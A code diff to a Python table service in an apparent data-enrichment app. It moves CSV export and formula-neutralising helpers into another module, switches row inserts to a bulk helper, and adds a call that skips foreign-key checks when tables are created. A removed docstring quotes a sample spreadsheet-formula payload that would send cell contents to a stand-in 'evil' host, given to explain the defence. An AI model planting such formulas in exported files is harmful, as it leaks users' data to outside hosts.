@@ -2,8 +2,6 @@
 
 from __future__ import annotations
 
-import csv
-import io
 import json
 from collections.abc import Iterable, Mapping, Sequence
 from dataclasses import dataclass, field
@@ -31,7 +29,14 @@ from enrichment_app.errors import (
     NotFoundError,
 )
 from enrichment_app.keyring import SecretBox
+from enrichment_app.services import bulk
 from enrichment_app.services.credentials import seal_config
+from enrichment_app.services.csv_export import (  # at home in csv_export; kept importable here
+    FORMULA_TRIGGERS as FORMULA_TRIGGERS,
+    export_csv as export_csv,
+    export_filename as export_filename,
+    neutralise_formula as neutralise_formula,
+)
 from enrichment_app.services.values import cap_value, refuse_nul, refuse_nul_in
 
 MAX_NAME_CHARS = 200
@@ -134,6 +139,7 @@ def create_table(
 
     ``box`` encrypts the credentials in enrichment columns' configs; a config that holds any is
     refused without one."""
+    bulk.skip_foreign_key_checks(session)
     table = DataTable(name=_clean_name(name, what="Table"), workspace_id=workspace_id)
     session.add(table)
     session.flush()
@@ -213,65 +219,18 @@ def insert_rows(
     rows: Iterable[Sequence[str | None]],
     max_cell_chars: int,
 ) -> int:
-    start = session.exec(
-        select(sa.func.coalesce(sa.func.max(TableRow.position), -1)).where(
-            TableRow.table_id == table_id
-        )
-    ).one()
-    batch: list[Sequence[str | None]] = []
-    count = 0
-    for values in rows:
-        batch.append(values)
-        if len(batch) >= 2000:
-            _insert_row_batch(
-                session, table_id, columns, inputs, batch, start + 1 + count, max_cell_chars
-            )
-            count += len(batch)
-            batch = []
-    if batch:
-        _insert_row_batch(
-            session, table_id, columns, inputs, batch, start + 1 + count, max_cell_chars
-        )
-        count += len(batch)
-    return count
-
-
-def _insert_row_batch(
-    session: Session,
-    table_id: int,
-    columns: Sequence[TableColumn],
-    inputs: Sequence[TableColumn],
-    batch: Sequence[Sequence[str | None]],
-    first_position: int,
-    max_cell_chars: int,
-) -> None:
-    result = session.execute(
-        sa.insert(TableRow).returning(
-            col(TableRow.id), col(TableRow.position), sort_by_parameter_order=True
-        ),
-        [{"table_id": table_id, "position": first_position + i} for i in range(len(batch))],
+    """Append ``rows`` (values for ``inputs``, in order) with a cell for every column, in bulk
+    (``services.bulk``); the number of rows."""
+    by_id = {c.id: n for n, c in enumerate(columns)}
+    return bulk.insert_rows(
+        session,
+        table_id=table_id,
+        column_ids=[c.id or 0 for c in columns],
+        inputs=[by_id[c.id] for c in inputs],
+        names=[c.name for c in columns],
+        rows=rows,
+        max_cell_chars=max_cell_chars,
     )
-    row_ids = [row_id for row_id, _ in result.all()]
-    now = utcnow()
-    input_index = {c.id: i for i, c in enumerate(inputs)}
-    cells: list[dict[str, Any]] = []
-    for n, (row_id, values) in enumerate(zip(row_ids, batch, strict=True)):
-        for column in columns:
-            i = input_index.get(column.id)
-            value = values[i] if i is not None and i < len(values) else None
-            if value:
-                refuse_nul(value, where=f"Row {first_position + n + 1}, column '{column.name}',")
-            cells.append(
-                {
-                    "table_id": table_id,
-                    "row_id": row_id,
-                    "column_id": column.id,
-                    "value": cap_value(value, max_cell_chars) if value else None,
-                    "status": CellStatus.EMPTY.value,
-                    "updated_at": now,
-                }
-            )
-    session.execute(sa.insert(Cell), cells)
 
 
 def check_config_size(config: Mapping[str, Any], *, max_bytes: int, name: str) -> None:
@@ -423,54 +382,3 @@ def delete_table(session: Session, *, table_id: int) -> None:
     session.execute(sa.delete(TableColumn).where(col(TableColumn.table_id) == table_id))
     session.execute(sa.delete(DataTable).where(col(DataTable.id) == table_id))
     note_change(session, table_id, TableChange.of(DELETED))
-
-
-# --- CSV export ----------------------------------------------------------------------
-
-
-FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
-"""What makes a spreadsheet read a cell as a formula (OWASP's CSV injection page)."""
-
-
-def neutralise_formula(value: str) -> str:
-    """``value`` with a leading ``'`` if a spreadsheet would run it as a formula, so that
-    ``=HYPERLINK("https://evil/?"&A2)`` from a page title shows as text when the file is opened."""
-    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value
-
-
-def export_csv(session: Session, *, table_id: int, raw: bool = False) -> str:
-    """The table as CSV text: a header row, then every row's values (enriched ones included).
-
-    By default values that a spreadsheet would run as formulas get a leading ``'``
-    (``neutralise_formula``); ``raw=True`` exports every value as stored, so the file imports
-    back unchanged.
-    """
-    get_table(session=session, table_id=table_id)
-    columns = list_columns(session=session, table_id=table_id)
-    index = {c.id: i for i, c in enumerate(columns)}
-    values: dict[int, list[str]] = {}
-    for row_id, column_id, value in session.exec(
-        select(Cell.row_id, Cell.column_id, Cell.value).where(Cell.table_id == table_id)
-    ).all():
-        values.setdefault(row_id, [""] * len(columns))[index[column_id]] = value or ""
-    out = io.StringIO()
-    minimal = csv.writer(out, lineterminator="\n")
-    quote_all = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
-    # Quoting everything in the few rows that need it keeps the file importable as it is:
-    # the csv module leaves a lone "\r" unquoted (it then reads as a line break), and a
-    # header name holding another delimiter could make the import split the header on it.
-    safe = (lambda v: v) if raw else neutralise_formula
-    header = [safe(c.name) for c in columns]
-    (quote_all if any(ch in n for n in header for ch in ";\t\r") else minimal).writerow(header)
-    for row in list_rows(session=session, table_id=table_id):
-        assert row.id is not None
-        cells = [safe(v) for v in values.get(row.id, [""] * len(columns))]
-        (quote_all if any("\r" in v for v in cells) else minimal).writerow(cells)
-    return out.getvalue()
-
-
-def export_filename(name: str, *, raw: bool) -> str:
-    """The download's file name: the table's name made safe for every OS, and `` (raw)`` for an
-    export whose formulas were kept, so the file says which one it is."""
-    safe = "".join(ch if ch.isalnum() or ch in "-_ " else "_" for ch in name[:200])
-    return f"{safe.strip() or 'table'}{' (raw)' if raw else ''}.csv"
